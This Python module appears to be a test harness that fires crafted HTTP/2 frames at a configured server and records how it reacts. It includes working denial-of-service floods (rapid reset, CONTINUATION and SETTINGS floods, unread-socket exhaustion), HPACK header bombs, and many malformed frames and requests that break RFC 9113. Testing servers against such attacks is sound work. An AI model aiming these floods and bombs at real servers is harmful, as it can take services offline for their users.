"""Attacks on HTTP/2, frame by frame: floods, bombs, and each way to break the rules of RFC 9113."""

import socket
import struct
import threading

from hpack import Encoder
from hpack.hpack import Decoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    PushPromiseFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from orders import STUCK, attack, obey, peer

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = (
    "NO_ERROR PROTOCOL_ERROR INTERNAL_ERROR FLOW_CONTROL_ERROR SETTINGS_TIMEOUT STREAM_CLOSED "
    "FRAME_SIZE_ERROR REFUSED_STREAM CANCEL COMPRESSION_ERROR CONNECT_ERROR ENHANCE_YOUR_CALM "
    "INADEQUATE_SECURITY HTTP_1_1_REQUIRED"
).split()
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 1, 3, 4, 7
# Enough to pass every bound, and few enough for every day.
FLOOD = 20_000


def head(path="/hello", method="GET", more=()):
    return [(":method", method), (":scheme", "http"), (":authority", "t"), (":path", path), *more]


def block(fields):
    return Encoder().encode(fields)


def headers(stream, fields=None, flags=("END_STREAM", "END_HEADERS"), data=None):
    frame = HeadersFrame(stream, data=block(fields or head()) if data is None else data)
    for flag in flags:
        frame.flags.add(flag)
    return frame.serialize()


def post(stream, more=()):
    return headers(stream, head("/echo", "POST", more), flags=("END_HEADERS",))


def data(stream, payload, end=True):
    frame = DataFrame(stream, data=payload)
    if end:
        frame.flags.add("END_STREAM")
    return frame.serialize()


def raw(kind, flags, stream, payload):
    """A frame that hyperframe would rather not write."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def window(stream, increment):
    return raw(8, 0, stream, struct.pack(">I", increment))


class Connection:
    """A client that has said hello, reads what comes and writes whatever it is told to."""

    def __init__(self, settings=None, preface=PREFACE, reads=True):
        self.socket = socket.create_connection(tuple(peer["plain"]), timeout=STUCK)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.told, self.closed = [], False
        self.changed = threading.Condition()
        self.decoder = Decoder()
        greeting = SettingsFrame(0, settings=settings or {}).serialize()
        self.send(preface + (greeting if preface else b""))
        if reads:
            self.read()

    def read(self):
        self.reader = threading.Thread(target=self.listen, daemon=True)
        self.reader.start()

    def send(self, octets):
        """False if the server no longer listens."""
        try:
            self.socket.sendall(octets)
            return True
        except OSError:
            return False

    def flood(self, frames):
        return all(self.send(part) for part in frames)

    def listen(self):
        try:
            stream = self.socket.makefile("rb")
            while len(start := stream.read(9)) == 9:
                length, kind, flags = int.from_bytes(start[:3], "big"), start[3], start[4]
                self.take(kind, flags, stream.read(length))
        except (OSError, ValueError):
            pass
        with self.changed:
            self.closed = True
            self.changed.notify_all()

    def take(self, kind, flags, payload):
        said = None
        if kind == SETTINGS and not flags & 1:
            self.send(SettingsFrame(0, flags=["ACK"]).serialize())
        elif kind == GOAWAY:
            code = int.from_bytes(payload[4:8], "big")
            said = "GOAWAY " + ERRORS[code] if code else None
        elif kind == RST_STREAM:
            said = "RST_STREAM " + ERRORS[int.from_bytes(payload, "big")]
        elif kind == HEADERS:
            said = dict(self.decoder.decode(payload, raw=True)).get(b":status", b"trailers").decode()
        if said:
            with self.changed:
                self.told.append(said)
                self.changed.notify_all()

    def wait(self, so_that):
        with self.changed:
            return self.changed.wait_for(so_that, STUCK)

    def leave(self):
        try:
            self.socket.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.socket.close()

    def ending(self):
        """What the server says last. An error of the connection must end it as well."""
        self.wait(lambda: self.told or self.closed)
        going = [said for said in self.told if said.startswith("GOAWAY")]
        if going and not self.wait(lambda: self.closed):
            return going[0] + ", left open"
        said = (going or self.told or ["closed" if self.closed else "silence"])[0]
        self.leave()
        return said

    def survives(self, stream):
        """Asks for something ordinary after a flood: 200, or how the connection ended."""
        self.send(headers(stream))
        return self.ending()


def broken(*frames, **options):
    """Sends these and says how the server takes it."""
    connection = Connection(**options)
    connection.send(b"".join(frames))
    return connection.ending()


# --- floods -----------------------------------------------------------------------------------


@attack
def rapid_reset():
    connection = Connection()
    cancel = struct.pack(">I", 8)
    connection.flood(
        headers(stream, head("/hang")) + raw(RST_STREAM, 0, stream, cancel) for stream in range(1, 8001, 2)
    )
    return connection.ending()


@attack
def made_you_reset():
    """The server is brought to reset streams itself, which no count of the client's resets sees."""
    connection = Connection()
    overflow = 2**31 - 1
    connection.flood(headers(stream, head("/hang")) + window(stream, overflow) for stream in range(1, 8001, 2))
    connection.wait(lambda: connection.closed or any("GOAWAY" in said for said in connection.told))
    connection.told = [said for said in connection.told if "GOAWAY" in said]
    return connection.ending()


@attack
def continuation_flood():
    connection = Connection()
    connection.send(headers(1, flags=("END_STREAM",)))
    part = ContinuationFrame(1, data=b"\x82" * 4096).serialize()
    connection.flood(part for _ in range(FLOOD))
    return connection.ending()


@attack
def empty_continuation_flood():
    connection = Connection()
    connection.send(headers(1, flags=("END_STREAM",)))
    part = ContinuationFrame(1, data=b"").serialize() * 100
    connection.flood(part for _ in range(FLOOD // 100))
    return connection.ending()


@attack
def settings_flood():
    connection = Connection()
    part = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize() * 100
    connection.flood(part for _ in range(FLOOD // 100))
    return connection.survives(1)


def unread(part):
    """Floods without reading the answers, which must not pile up in the server."""
    connection = Connection(reads=False)
    connection.socket.settimeout(peer["patience_seconds"])
    sent = connection.flood(part for _ in range(4000))
    connection.socket.settimeout(STUCK)
    connection.read()
    if not sent:
        # The server stopped reading, and has given up waiting by now.
        connection.wait(lambda: connection.closed)
        connection.leave()
        return "stopped"
    return connection.survives(1)


@attack
def settings_unread():
    return unread(SettingsFrame(0, settings={}).serialize() * 1000)


@attack
def ping_unread():
    return unread(PingFrame(0, opaque_data=b"12345678").serialize() * 1000)


@attack
def ping_flood():
    connection = Connection()
    part = PingFrame(0, opaque_data=b"12345678").serialize() * 100
    connection.flood(part for _ in range(FLOOD // 100))
    return connection.survives(1)


@attack
def empty_data_flood():
    connection = Connection()
    connection.send(post(1))
    part = data(1, b"", end=False) * 100
    connection.flood(part for _ in range(FLOOD // 100))
    connection.send(data(1, b"", end=True))
    return connection.ending()


@attack
def padded_data_flood():
    """Padding counts for flow control and brings nothing."""
    connection = Connection()
    connection.send(post(1))
    connection.flood(raw(0, 8, 1, b"\xff" + bytes(255)) for _ in range(2000))
    return connection.ending()


@attack
def window_update_flood():
    connection = Connection()
    connection.flood(window(0, 1) * 100 for _ in range(FLOOD // 100))
    return connection.survives(1)


@attack
def priority_flood():
    connection = Connection()
    for start in range(1, 2 * FLOOD, 200):
        frames = (PriorityFrame(stream, depends_on=0, stream_weight=1) for stream in range(start, start + 200, 2))
        connection.send(b"".join(frame.serialize() for frame in frames))
    return connection.survives(2 * FLOOD + 1)


@attack
def unknown_frame_flood():
    connection = Connection()
    connection.flood(raw(0xBE, 0, 0, bytes(100)) * 100 for _ in range(FLOOD // 100))
    return connection.survives(1)


@attack
def unread_streams():
    """A hundred answers without end for a client that opens no window."""
    connection = Connection(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    connection.send(b"".join(headers(stream, head("/endless")) for stream in range(1, 201, 2)))
    connection.wait(lambda: connection.closed)
    connection.told = []
    return connection.ending()


@attack
def unread_socket():
    """A hundred answers without end, wide windows, and nobody who reads."""
    connection = Connection(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1}, reads=False)
    connection.send(window(0, 2**31 - 65_536))
    connection.send(b"".join(headers(stream, head("/endless")) for stream in range(1, 201, 2)))
    # Reset or ended: the server has given up once nothing more can be written.
    ping = PingFrame(0, opaque_data=b"12345678").serialize()
    pause = threading.Event()
    for _ in range(STUCK * 10):
        if not connection.send(ping):
            return "closed"
        pause.wait(0.1)
    return "left open"


# --- bombs ------------------------------------------------------------------------------------


@attack
def header_bomb():
    """One long field in the table, named again and again by a single octet."""
    literal = b"\x40\x01x\x7f" + bytes([0x80 | (3900 - 127) & 0x7F, (3900 - 127) >> 7]) + b"y" * 3900
    return broken(headers(1, data=block(head()) + literal + b"\xbe" * 8000))


@attack
def many_headers():
    fields = [(f"a{number}", "1") for number in range(10_000)]
    whole = block(head(more=fields))
    parts = [whole[start : start + 16_000] for start in range(0, len(whole), 16_000)]
    frames = [headers(1, flags=("END_STREAM",), data=parts[0])]
    frames += [ContinuationFrame(1, data=part).serialize() for part in parts[1:-1]]
    last = ContinuationFrame(1, data=parts[-1], flags=["END_HEADERS"]).serialize()
    return broken(*frames, last)


@attack
def long_header():
    # Not Huffman's code, so that it is as long as it looks.
    literal = b"\x00\x01x\x7f" + bytes([0x80 | (16_200 - 127) & 0x7F, (16_200 - 127) >> 7]) + b"y" * 16_200
    return broken(headers(1, data=block(head()) + literal))


@attack
def hpack_unknown_index():
    return broken(headers(1, data=b"\xff\x80\x01"))


@attack
def hpack_table_too_large():
    return broken(headers(1, data=b"\x3f\xff\xff\x7f" + block(head())))


@attack
def hpack_endless_number():
    return broken(headers(1, data=b"\x7f" + b"\xff" * 4000))


@attack
def hpack_truncated():
    return broken(headers(1, data=block(head()) + b"\x40\x05ab"))


@attack
def body_too_large():
    connection = Connection()
    connection.send(post(1, [("content-length", "70000")]))
    connection.send(data(1, bytes(8192), end=False))
    return connection.ending()


# --- the connection's rules ---------------------------------------------------------------------


@attack
def bad_preface():
    return broken(preface=b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n")


@attack
def no_settings():
    return broken(PREFACE, headers(1), preface=b"")


@attack
def settings_on_a_stream():
    return broken(raw(SETTINGS, 0, 1, b""))


@attack
def settings_cut():
    return broken(raw(SETTINGS, 0, 0, bytes(5)))


@attack
def settings_ack_with_payload():
    return broken(raw(SETTINGS, 1, 0, bytes(6)))


@attack
def settings_window_too_large():
    return broken(raw(SETTINGS, 0, 0, struct.pack(">HI", 4, 2**31)))


@attack
def settings_frame_size_too_small():
    return broken(raw(SETTINGS, 0, 0, struct.pack(">HI", 5, 1)))


@attack
def settings_bad_push():
    return broken(raw(SETTINGS, 0, 0, struct.pack(">HI", 2, 2)))


@attack
def settings_window_overflows_streams():
    connection = Connection(settings={SettingsFrame.INITIAL_WINDOW_SIZE: 10})
    connection.send(headers(1, head("/hang")) + window(1, 2**31 - 11))
    connection.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize())
    return connection.ending()


@attack
def ping_cut():
    return broken(raw(6, 0, 0, bytes(7)))


@attack
def ping_on_a_stream():
    return broken(raw(6, 0, 1, bytes(8)))


@attack
def goaway_on_a_stream():
    return broken(raw(GOAWAY, 0, 1, bytes(8)))


@attack
def huge_frame():
    return broken(post(1), raw(0, 0, 1, bytes(16_385)))


@attack
def huge_header_frame():
    return broken(raw(HEADERS, 5, 1, bytes(2**20)))


@attack
def connection_window_overflow():
    return broken(window(0, 2**31 - 1))


@attack
def connection_window_zero():
    return broken(window(0, 0))


@attack
def window_cut():
    return broken(raw(8, 0, 0, b"\0\0\1"))


@attack
def push_from_a_client():
    return broken(headers(1, head("/hang")), PushPromiseFrame(1, promised_stream_id=2, data=block(head()), flags=["END_HEADERS"]).serialize())


@attack
def continuation_alone():
    return broken(ContinuationFrame(1, data=block(head()), flags=["END_HEADERS"]).serialize())


@attack
def head_interrupted():
    return broken(headers(1, flags=("END_STREAM",)), PingFrame(0, opaque_data=bytes(8)).serialize())


@attack
def head_interrupted_by_another():
    return broken(headers(1, flags=("END_STREAM",)), headers(3))


@attack
def continuation_of_another():
    return broken(headers(1, flags=("END_STREAM",)), ContinuationFrame(3, data=b"").serialize())


@attack
def padding_too_long():
    return broken(post(1), raw(0, 8, 1, b"\x09abc"))


# --- the streams' rules -------------------------------------------------------------------------


@attack
def even_stream():
    return broken(headers(2))


@attack
def stream_zero():
    return broken(raw(HEADERS, 5, 0, block(head())))


@attack
def data_on_stream_zero():
    return broken(raw(0, 1, 0, b"x"))


@attack
def data_on_idle_stream():
    return broken(data(7, b"x"))


@attack
def reset_of_idle_stream():
    return broken(raw(RST_STREAM, 0, 7, bytes(4)))


@attack
def reset_cut():
    return broken(headers(1, head("/hang")), raw(RST_STREAM, 0, 1, bytes(3)))


@attack
def window_of_idle_stream():
    return broken(window(7, 1))


@attack
def stream_used_again():
    return broken(headers(1, head("/hang")), headers(1))


@attack
def stream_decreasing():
    return broken(headers(5, head("/hang")), headers(3))


@attack
def data_after_the_end():
    return broken(headers(1, head("/hang")), data(1, b"x"))


@attack
def stream_window_overflow():
    return broken(headers(1, head("/hang")), window(1, 2**31 - 1))


@attack
def stream_window_zero():
    return broken(headers(1, head("/hang")), window(1, 0))


@attack
def flow_control_ignored():
    connection = Connection()
    connection.send(headers(1, head("/hang", "POST"), flags=("END_HEADERS",)))
    connection.flood(data(1, bytes(16_384), end=False) for _ in range(80))
    return connection.ending()


@attack
def priority_of_itself():
    return broken(headers(1, head("/hang")), PriorityFrame(1, depends_on=1, stream_weight=1).serialize())


@attack
def head_depends_on_itself():
    return broken(raw(HEADERS, 0x25, 1, struct.pack(">IB", 1, 16) + block(head())))


@attack
def priority_cut():
    return broken(headers(1, head("/hang")), raw(2, 0, 1, bytes(4)))


@attack
def trailers_that_do_not_end():
    return broken(post(1), headers(1, [("x", "y")], flags=("END_HEADERS",)))


@attack
def pseudo_field_in_trailers():
    return broken(post(1), headers(1, [(":path", "/")]))


# --- malformed requests (RFC 9113 §8) -------------------------------------------------------------


def malformed(name):
    def register(fields):
        def carry_out():
            return broken(headers(1, fields))

        carry_out.__name__ = name
        attack(carry_out)

    return register


good = head()
malformed("upper_case")([*good, ("Upper", "case")])
malformed("empty_name")([*good, ("", "x")])
malformed("space_in_name")([*good, ("a b", "x")])
malformed("colon_in_name")([*good, ("a:b", "x")])
malformed("nul_in_value")([*good, ("x", "a\0b")])
malformed("line_feed_in_value")([*good, ("x", "a\nb")])
malformed("return_in_value")([*good, ("x", "a\rb: c")])
malformed("pseudo_after_others")([*good[:3], ("x", "y"), good[3]])
malformed("pseudo_unknown")([*good, (":unknown", "x")])
malformed("pseudo_of_answers")([*good, (":status", "200")])
malformed("pseudo_twice")([*good, (":path", "/other")])
malformed("no_method")(good[1:])
malformed("no_scheme")([good[0], *good[2:]])
malformed("no_path")(good[:3])
malformed("empty_path")(head(""))
malformed("space_in_path")(head("/sp ace"))
malformed("invalid_utf8_in_path")([*good[:3], (b":path", b"/\xff\xfe")])
malformed("connection_field")([*good, ("connection", "close")])
malformed("transfer_encoding")([*good, ("transfer-encoding", "chunked")])
malformed("keep_alive_field")([*good, ("keep-alive", "1")])
malformed("upgrade_field")([*good, ("upgrade", "h2c")])
malformed("te_gzip")([*good, ("te", "gzip")])
malformed("connect_with_path")(head(method="CONNECT"))
malformed("two_hosts")([*good, ("host", "other")])
malformed("authority_with_user")([good[0], good[1], (":authority", "u:p@t"), good[3]])


def lengths(name, told, sent):
    def carry_out():
        more = [("content-length", length) for length in told]
        return broken(post(1, more), *([data(1, sent)]))

    carry_out.__name__ = name
    attack(carry_out)


lengths("body_longer_than_told", ["3"], b"12345")
lengths("body_shorter_than_told", ["9"], b"12345")
lengths("length_with_sign", ["+5"], b"12345")
lengths("length_in_hexadecimal", ["0x5"], b"12345")
lengths("two_lengths", ["5", "6"], b"12345")
lengths("no_length_at_all", [""], b"12345")


@attack
def length_without_body():
    return broken(headers(1, head("/echo", "POST", [("content-length", "5")])))


if __name__ == "__main__":
    obey()
